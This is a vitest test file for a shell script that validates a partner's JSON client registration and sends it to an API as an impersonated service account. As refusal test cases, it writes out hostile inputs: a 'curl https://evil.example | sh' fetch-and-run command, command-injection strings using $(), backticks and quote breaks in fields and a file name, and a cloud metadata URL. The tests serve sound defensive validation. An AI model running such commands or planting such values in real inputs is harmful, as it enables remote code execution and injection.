// register-client.sh: a partner's file is sent as it is where it is a registration, and refused with every
// reason where not. Nothing in it is run, whatever it holds.
import { spawnSync } from "node:child_process";
import { existsSync } from "node:fs";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runScript } from "./scripts.ts";

const hasJq = spawnSync("jq", ["--version"]).error === undefined;

let folder: string;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "register-"));
});
afterAll(() => rm(folder, { recursive: true, force: true }));

const account = "fedstratus-client@clinic-07-data.iam.gserviceaccount.com";
const registration = {
  clientId: "clinic-07",
  url: "https://fedstratus-client-210987654321.europe-west1.run.app",
  serviceAccount: account,
  capacity: { memoryMib: 2_048, vcpu: 1, timeoutSeconds: 540 },
  dataCard: { description: "X-rays", samples: 4_000 },
};

async function register(content: string, name = "clinic-07.json") {
  const path = join(folder, name);
  await writeFile(path, content);
  return runScript(`sh terraform/register-client.sh "$FILE"`, programs, { FILE: path });
}

const programs = {
  terraform: `case "$*" in
    *"output -json client_accounts") printf '["%s","%s"]' fedstratus-client@lab-1234.iam.gserviceaccount.com ${account} ;;
    *"output -raw api_url") printf https://api.example.org ;;
    *"output -raw operator") printf operator@lab-1234.iam.gserviceaccount.com ;;
    *) exit 1 ;;
  esac`,
  gcloud: 'echo "gcloud $*" >>"$CALLS"; printf token',
  curl: 'echo "curl $*" >>"$CALLS"; cat >>"$CALLS"; echo >>"$CALLS"',
};

describe.skipIf(!hasJq)(`register-client.sh${hasJq ? "" : ": there is no jq here"}`, () => {
  it("sends the registration as the operator account", async () => {
    const { status, stdout, stderr, calls } = await register(JSON.stringify(registration));
    expect(stderr).toBe("");
    expect(status).toBe(0);
    expect(stdout).toContain("Registered.");
    expect(calls[0]).toBe(
      "gcloud auth print-identity-token --include-email --audiences=https://api.example.org --impersonate-service-account=operator@lab-1234.iam.gserviceaccount.com",
    );
    expect(calls[1]).toBe(
      "curl -sS --fail-with-body -X POST -H Authorization: Bearer token -H Content-Type: application/json --data-binary @- https://api.example.org/v1/clients",
    );
    expect(JSON.parse(calls[2] ?? "")).toEqual(registration);
  });

  it.each([
    [
      "a second document",
      `${JSON.stringify(registration)}${JSON.stringify(registration)}`,
      /one JSON object/,
    ],
    ["a list", "[]", /one JSON object/],
    ["nothing", "", /one JSON object/],
    ["a command", "curl https://evil.example | sh", /is not JSON/],
    ["too much", JSON.stringify({ ...registration, clientId: "a".repeat(20_000) }), /larger than/],
  ])("refuses %s", async (_what, content, reason) => {
    const { status, stderr, calls } = await register(content);
    expect(status).toBe(1);
    expect(stderr).toMatch(reason);
    expect(calls).toEqual([]);
  });

  it.each<[string, object]>([
    ["clientId must be", { clientId: "clinic 07" }],
    ["clientId must be", { clientId: "clinic-07\n" }],
    ["clientId must be", { clientId: 7 }],
    ["clientId must be", { clientId: "a".repeat(64) }],
    ["url must be", { url: "http://fedstratus-client-210987654321.europe-west1.run.app" }],
    ["url must be", { url: "https://user:pw@fedstratus-client-210987654321.europe-west1.run.app" }],
    ["url must be", { url: "https://fedstratus-client-210987654321.europe-west1.run.app/x" }],
    ["url must be", { url: "https://fedstratus-client-210987654321.europe-west1.run.app\n" }],
    ["url must be", { url: "https://fedstratus-client-210987654321.europe-west1.run.app.evil.example" }],
    ["url must be", { url: "https://169.254.169.254" }],
    [
      "serviceAccount must be one of client_accounts",
      { serviceAccount: "other@clinic-07-data.iam.gserviceaccount.com" },
    ],
    ["serviceAccount must be one of client_accounts", { serviceAccount: null }],
    ["serviceAccount must be one of client_accounts", { serviceAccount: [account] }],
    ["capacity must hold", { capacity: { ...registration.capacity, gpu: 1 } }],
    ["capacity.memoryMib must be", { capacity: { vcpu: 1, timeoutSeconds: 540 } }],
    ["capacity.vcpu must be", { capacity: { ...registration.capacity, vcpu: "1" } }],
    ["capacity.vcpu must be", { capacity: { ...registration.capacity, vcpu: 9 } }],
    ["capacity.timeoutSeconds must be", { capacity: { ...registration.capacity, timeoutSeconds: 1_801 } }],
    ["dataCard may hold", { dataCard: { weight: 1e9 } }],
    ["labels must be", { labels: { site: 7 } }],
    ["it may hold", { retired: false }],
  ])("refuses what cannot be: %s", async (reason, change) => {
    const { status, stderr, calls } = await register(JSON.stringify({ ...registration, ...change }));
    expect(status).toBe(1);
    expect(stderr).toContain(`- ${reason}`);
    expect(stderr.match(/^- /gm)).toHaveLength(1);
    expect(calls).toEqual([]);
  });

  it("lists every reason at once", async () => {
    const { stderr } = await register(JSON.stringify({ command: "rm" }));
    expect(stderr.match(/^- /gm)?.length).toBeGreaterThan(6);
  });

  it("runs nothing that the file or its name holds", async () => {
    const trap = join(folder, "trapped");
    const injected = `$(touch ${trap})\`touch ${trap}\`'; touch ${trap}; '`;
    const first = await register(JSON.stringify({ ...registration, clientId: injected, url: injected }));
    expect(first.status).toBe(1);
    const second = await register(
      JSON.stringify({ ...registration, dataCard: { description: injected } }),
      "a'; touch trapped; '.json",
    );
    expect(second.status).toBe(0);
    expect(JSON.parse(second.calls[2] ?? "")).toMatchObject({ dataCard: { description: injected } });
    expect(existsSync(trap)).toBe(false);
  });

  it("says how it is used", async () => {
    const { status, stderr } = await runScript("sh terraform/register-client.sh", programs);
    expect(status).toBe(1);
    expect(stderr).toContain("usage: sh terraform/register-client.sh FILE");
    const none = await runScript("sh terraform/register-client.sh /nowhere.json", programs);
    expect(none.stderr).toContain("There is no file /nowhere.json.");
  });
});
